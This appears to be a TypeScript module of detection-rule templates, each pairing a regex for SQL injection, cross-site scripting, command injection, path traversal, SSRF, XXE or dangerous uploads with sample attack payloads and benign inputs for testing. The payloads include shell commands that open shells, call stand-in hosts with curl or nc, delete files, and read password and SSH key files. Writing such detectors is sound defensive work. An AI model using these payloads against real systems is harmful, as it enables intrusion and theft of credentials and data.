import type { RuleTemplate, SampleRequest } from './types.ts';

const query = (...values: readonly string[]): SampleRequest[] =>
  values.map((value) => ({ method: 'GET', target: `/find?q=${encodeURIComponent(value)}` }));
const form = (...values: readonly string[]): SampleRequest[] =>
  values.map((value) => ({ method: 'POST', target: '/save', body: `field=${encodeURIComponent(value)}` }));
const text = (...bodies: readonly string[]): SampleRequest[] =>
  bodies.map((body) => ({ method: 'POST', target: '/import', body }));
const path = (...targets: readonly string[]): SampleRequest[] => targets.map((target) => ({ method: 'GET', target }));

/** What people write into forms and searches. */
const everyday = [
  ...query(
    'red shoes size 42',
    "O'Reilly",
    'select a colour',
    'union of workers',
    'rock & roll',
    'a < b and c > d',
    '50% off',
  ),
  ...query(
    'drop me a line',
    'cats -- and dogs',
    'price >= 10',
    'C++ or C#?',
    'where is table 5',
    'order by phone',
    'x = y',
  ),
  ...form(
    'Dear team,\nthank you; see you at 10:30.',
    'He said "no" (twice)',
    'https://www.example.test/page?id=3',
    'name@example.test',
  ),
  ...form(
    'See /docs/guide/index.html',
    'I like <3 and cats',
    'a|b|c',
    'cost: $5',
    'file.name.txt',
    'ls is a command',
    'version 1.2..1.4',
  ),
  ...path(
    '/',
    '/about',
    '/a/b/c.html',
    '/files/report-2026.pdf',
    '/api/items?page=2&size=50',
    '/search?q=',
    '/~user/index.html',
  ),
  ...text(
    '{"name":"Ada","age":36}',
    '<note><to>Ada</to></note>',
    'plain words',
    '<?xml version="1.0"?><a><b/></a>',
    '[1,2,3]',
  ),
];

/** One template for each weakness that has one (eureka.md §9). */
export const ruleTemplates: readonly RuleTemplate[] = [
  {
    cwe: 89,
    title: 'SQL injection',
    pattern: String.raw`(?i)(?:'|"|\b\d+)\s*(?:or|and)\s+(?:'[^']*'|"[^"]*"|\d+)\s*(?:=|<|>|like)|\bunion\s+(?:all\s+)?select\b|;\s*(?:drop|alter|truncate|delete|insert|update|exec(?:ute)?)\s+\w|\b(?:sleep|benchmark|pg_sleep|waitfor\s+delay)\s*\(?\s*['\d]|'\s*(?:--|#|/\*)|\b(?:information_schema|sqlite_master|xp_cmdshell)\b`,
    looksAt: 'arguments',
    malicious: [
      ...query(
        "' or '1'='1",
        '1 OR 1=1',
        "x' union select name from users",
        '1; drop table users',
        "' and sleep(5)",
        "admin'--",
        '1 UNION ALL SELECT null',
      ),
      ...form(
        "'; exec xp_cmdshell 'dir'",
        '1 and pg_sleep(3)',
        "x' or 1=1 #",
        "' union select table_name from information_schema.tables",
        '1" or "a"="a',
      ),
    ],
    benign: everyday,
  },
  {
    cwe: 79,
    title: 'cross-site scripting',
    pattern: String.raw`(?i)<\s*/?\s*(?:script|iframe|object|embed|svg|math|base|meta|link|form)\b|\bon[a-z]{3,20}\s*=\s*["']?[^\s"'>]*[(\x60]|javascript\s*:|data\s*:\s*text/html|<\s*(?:img|video|audio|body|input|details|a)\b[^>]*\bon[a-z]{3,20}\s*=`,
    looksAt: 'arguments',
    malicious: [
      ...query(
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(1)>',
        '<svg/onload=alert(1)>',
        'javascript:alert(1)',
        '"><script src=//x></script>',
      ),
      ...form(
        '<iframe src="javascript:alert(1)">',
        '<body onload=alert(1)>',
        '<a href="javascript:x">',
        '<details open ontoggle=alert(1)>',
        '<object data=x>',
        'data:text/html,<b>',
      ),
    ],
    benign: everyday,
  },
  {
    cwe: 77,
    title: 'command injection',
    pattern: String.raw`(?i)(?:[;|&\x60\n]|\$\(|\|\|)\s*(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|zsh|python\d?|perl|ruby|php|ping|nslookup|rm|chmod|powershell|cmd)\b(?:\s+[-/.\w$]|\s*$|[)\x60;|])|\$\{IFS\}|/bin/(?:ba|z|da)?sh\b`,
    looksAt: 'arguments',
    malicious: [
      ...query(
        'x; cat /etc/passwd',
        'a | nc 10.0.0.1 99',
        '$(whoami)',
        '`id`',
        'x && curl http://evil.example.test',
        '127.0.0.1; ls -la',
      ),
      ...form(
        'a || ping -c 1 x',
        'cat$' + '{IFS}/etc/passwd',
        '; /bin/sh -i',
        'x | bash -c y',
        '& powershell -enc AA',
        'a\nwget http://x',
      ),
    ],
    benign: everyday,
  },
  {
    cwe: 78,
    title: 'OS command injection',
    pattern: String.raw`(?i)(?:[;|&\x60\n]|\$\(|\|\|)\s*(?:/[\w./]*/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|zsh|python\d?|perl|ruby|php|ping|nslookup|rm|chmod|powershell|cmd)\b(?:\s+[-/.\w$]|\s*$|[)\x60;|])|\$\{IFS\}|/bin/(?:ba|z|da)?sh\b|\bcmd\.exe\b`,
    looksAt: 'arguments',
    malicious: [
      ...query('x; /usr/bin/id', '; uname -a', '| whoami', '$(curl http://x)', '`wget http://x`', 'a & cmd.exe /c dir'),
      ...form(
        'x; rm -rf /',
        'x || nslookup evil.example.test',
        'a;python3 -c 1',
        'y | sh',
        '/bin/bash -c id',
        'z && perl -e 1',
      ),
    ],
    benign: everyday,
  },
  {
    cwe: 22,
    title: 'path traversal',
    pattern: String.raw`(?i)(?:^|[/\\=:])\.\.(?:[/\\]|$)|\.\.[/\\]\.\.|(?:^|=)/(?:etc|proc|sys|root|windows)(?:/|$)|\b[a-z]:\\(?:windows|users|boot)|(?:^|/)\.(?:ssh|aws|git|env)(?:/|$)`,
    looksAt: 'target-and-arguments',
    malicious: [
      ...query(
        '../../etc/passwd',
        '..\\..\\windows\\win.ini',
        '/etc/shadow',
        '....//../../x/../y',
        'a/../../b',
        'C:\\Windows\\system.ini',
      ),
      ...path(
        '/static/..%2f..%2fetc%2fpasswd',
        '/files/../../app.env',
        '/%2e%2e/%2e%2e/secret',
        '/download?file=%2Fproc%2Fself%2Fenviron',
        '/x?f=..%2F.ssh%2Fid_rsa',
      ),
    ],
    benign: everyday,
  },
  {
    cwe: 918,
    title: 'server-side request forgery',
    pattern: String.raw`(?i)(?:https?|ftp|gopher|dict|ldap)://(?:[^/@\s]*@)?(?:localhost|127\.\d|0\.0\.0\.0|10\.\d|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|\[(?:::1?|f[cde][0-9a-f]{2}:|::ffff:)|0x7f|2130706433|metadata\.)|(?:file|gopher|dict|jar|netdoc)://`,
    looksAt: 'arguments',
    malicious: [
      ...query(
        'http://169.254.169.254/latest/meta-data/',
        'http://localhost:8080/admin',
        'http://127.0.0.1/',
        'file:///etc/passwd',
        'gopher://x:25/_a',
      ),
      ...form(
        'http://[::1]/',
        'https://10.0.0.5/x',
        'http://192.168.1.1',
        'http://user@127.0.0.1/',
        'dict://localhost:11211/',
        'http://0x7f000001/',
        'http://metadata.internal.test/',
      ),
    ],
    benign: everyday,
  },
  {
    cwe: 611,
    title: 'XML external entities',
    pattern: String.raw`(?i)<!\s*(?:doctype[^>\[]*\[|doctype\s+\S+\s+(?:system|public)\b|entity\s+(?:%\s*)?\S+\s+(?:system|public|["']))|<\s*xi:include\b`,
    looksAt: 'body',
    malicious: text(
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<!DOCTYPE a [ <!ENTITY % p SYSTEM "http://evil.example.test/x.dtd"> %p; ]>',
      '<!DOCTYPE a SYSTEM "http://evil.example.test/a.dtd"><a/>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol">]><a>&lol;</a>',
      '<a><xi:include href="file:///etc/passwd" parse="text"/></a>',
      '<!doctype a public "x" "http://evil.example.test"><a/>',
      '<!ENTITY x SYSTEM "expect://id">',
      '<! ENTITY y PUBLIC "a" "b">',
      '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "http://x">]>',
      '<!DOCTYPE\nr\n[<!ENTITY a "b">]>',
    ),
    benign: everyday,
  },
  {
    cwe: 434,
    title: 'upload of a dangerous file',
    pattern: String.raw`(?i)filename\s*=\s*"?[^"\r\n]*\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi|pl|exe|dll|bat|cmd|ps1|sh|war|htaccess|svg|html?)(?:[.\s%;:][^"\r\n]*)?"?(?:\r|\n|$)`,
    looksAt: 'body',
    malicious: text(
      ...[
        'shell.php',
        'x.phtml',
        'a.jsp',
        'b.aspx',
        'c.php.jpg',
        'run.sh',
        '.htaccess',
        'x.war',
        'y.PHP5',
        'z.svg',
        'q.exe',
        'w.html',
      ].map((name) => `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\nx\r\n--b--`),
    ),
    benign: [
      ...everyday,
      ...text(
        ...['photo.jpg', 'report.pdf', 'php-notes.txt', 'data.csv', 'archive.zip', 'letter.docx', 'php.png'].map(
          (name) => `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\nx\r\n--b--`,
        ),
      ),
    ],
  },
];
